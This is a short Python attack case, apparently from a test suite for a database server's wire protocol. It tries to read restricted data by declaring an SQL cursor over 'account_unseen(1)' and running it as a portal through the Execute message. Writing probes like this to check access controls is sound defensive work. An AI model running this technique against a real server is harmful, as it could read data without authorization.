"""Declares a cursor with SQL, and runs it as a portal."""

from attacks.frames import SYNC, ask, execute, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, query(b"BEGIN; DECLARE c CURSOR FOR SELECT account_unseen(1)"))
        return ask(client, execute(b"c"), SYNC)
